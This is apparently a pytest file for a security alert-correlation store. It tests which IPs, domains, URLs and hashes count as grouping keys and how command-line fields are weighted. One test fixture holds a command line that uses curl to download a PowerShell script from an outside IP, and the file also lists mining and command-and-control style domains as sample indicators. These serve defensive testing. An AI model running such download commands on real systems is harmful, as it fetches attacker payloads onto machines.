"""Correlation keys: values every network shares relate nothing; command-line values weigh less."""

from __future__ import annotations

from ipaddress import ip_network
from typing import Any

import pytest

from flows.models import Alert, Indicator, IndicatorType
from flows.store import GroupingRules, correlation_keys
from flows.store._keys import KeyFilter, from_text, weighted_keys

OWN = KeyFilter.of(["Corp-Acme.example", "*.acme-intra.example."], [ip_network("81.2.69.0/24")])


def _indicator(value: str, field: str = "observables[dst]") -> Indicator:
    found = Indicator.parse(value, field=field)
    assert found is not None, value
    return found


@pytest.mark.parametrize(
    "value",
    [
        "127.0.0.1",  # loopback
        "::1",
        "10.20.30.47",  # private
        "172.16.5.4",
        "192.168.1.10",
        "fd00::1",
        "169.254.10.1",  # link-local
        "fe80::1",
        "224.0.0.251",  # multicast
        "ff02::fb",
        "0.0.0.0",  # unspecified
        "::",
        "192.0.2.10",  # documentation
        "198.51.100.7",
        "203.0.113.9",
        "2001:db8::1",
        "100.64.0.1",  # CGNAT
        "240.0.0.1",  # reserved
        "255.255.255.255",
        "::ffff:10.0.0.1",  # an IPv4-mapped private address
        "8.8.8.8",  # public resolvers (the guardrails' warninglist)
        "1.1.1.1",
        "2001:4860:4860::8888",
        "81.2.69.142",  # the tenant's own range
        "www.google.com",  # major domains and their subdomains
        "google.com",
        "update.microsoft.com",
        "localhost.localdomain",  # private-use names
        "printer.local",
        "dc01.corp.internal",
        "nas.home.arpa",
        "corp-acme.example",  # the tenant's own domains and subdomains
        "vpn.corp-acme.example",
        "wiki.acme-intra.example",
        "https://www.google.com/search?q=x",  # a URL is judged by its host
        "http://127.0.0.1:8080/admin",
        "http://[2001:db8::5]/x",
        "http://intranet/wiki",
        "https://portal.corp-acme.example/login",
        "d41d8cd98f00b204e9800998ecf8427e",  # the empty file's digest
    ],
)
def test_values_every_network_shares_are_never_keys(value: str) -> None:
    assert OWN.excluded(_indicator(value)), value


@pytest.mark.parametrize(
    "value",
    [
        "45.33.32.156",
        "2a01:4f8:c2c:123f::1",
        "js.mykings.top",
        "pool.minexmr-evil.example",
        "notgoogle.com",  # only the listed domain and its subdomains, not look-alikes
        "acme-corp.example",  # not the tenant's domain
        "http://js.mykings.top:280/v.sct",
        "http://45.33.32.156/a.ps1",
        "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b856",  # hashes stay keys
    ],
)
def test_specific_public_values_are_keys(value: str) -> None:
    assert not OWN.excluded(_indicator(value)), value


def test_other_indicator_types_are_never_keys() -> None:
    path = Indicator(type=IndicatorType.FILE_PATH, value=r"C:\Users\x\a.exe", field="observables[f]")
    assert KeyFilter().excluded(path)


@pytest.mark.parametrize(
    ("field", "weak"),
    [
        ("evidences[0].process.cmd_line", True),  # OCSF evidence (parent command lines too)
        ("evidences[0].process.cmd_line#host", True),  # the host of a URL found in a command line
        ("observables[process.command_line]", True),  # Elastic / ECS
        ("observables[win.eventdata.commandLine]", True),  # Wazuh
        ("observables[Event.EventData.CommandLine]", True),  # Sysmon through a generic mapping
        ("observables[dst]", False),
        ("evidences[0].dst_endpoint.hostname", False),
        ("evidences[0].url.url_string#host", False),
        ("evidences[1].file.hashes", False),
    ],
)
def test_command_line_fields_are_text(field: str, weak: bool) -> None:
    assert from_text(field) is weak


def _alert(**extra: Any) -> Alert:
    return Alert.model_validate(
        {
            "class_uid": 2004,
            "metadata": {"tenant_uid": "demo", "product": {"name": "EDR"}, "uid": "a"},
            "finding_info": {"uid": "a", "title": "Suspicious", "analytic": {"uid": "rule-7"}},
            **extra,
        }
    )


def test_keys_carry_their_weight_and_a_url_counts_once() -> None:
    alert = _alert(
        device={"hostname": "WS-2"},
        evidences=[
            {
                "process": {"cmd_line": "ping www.google.com && curl http://45.33.32.156/a.ps1 -o a.ps1"},
                "dst_endpoint": {"hostname": "c2.evil-domain.example"},
            }
        ],
    )

    keys = {k.value: k for k in weighted_keys(alert, alert.indicators(), KeyFilter())}

    assert set(keys) == {
        "h:ws-2|r:rule-7",
        "i:domain:c2.evil-domain.example",
        "i:url:http://45.33.32.156/a.ps1",
        "i:ipv4:45.33.32.156",
    }
    assert keys["h:ws-2|r:rule-7"].strong and keys["i:domain:c2.evil-domain.example"].strong
    assert not keys["i:url:http://45.33.32.156/a.ps1"].strong and not keys["i:ipv4:45.33.32.156"].strong
    # One URL in a command line (and its host) is one shared value, not two.
    assert keys["i:url:http://45.33.32.156/a.ps1"].anchor == keys["i:ipv4:45.33.32.156"].anchor


def test_without_host_or_usable_indicator_the_key_is_the_source_and_rule() -> None:
    alert = _alert(observables=[{"name": "dst", "type_id": 2, "value": "10.1.2.3"}])

    assert correlation_keys(alert, alert.indicators()) == ["s:EDR|r:rule-7"]


def test_grouping_rules_carry_the_tenants_own_values() -> None:
    alert = _alert(observables=[{"name": "dst", "type_id": 1, "value": "mail.corp-acme.example"}])
    rules = GroupingRules(own_domains=("corp-acme.example",))

    assert correlation_keys(alert, alert.indicators()) == ["i:domain:mail.corp-acme.example"]
    assert correlation_keys(alert, alert.indicators(), rules) == ["s:EDR|r:rule-7"]
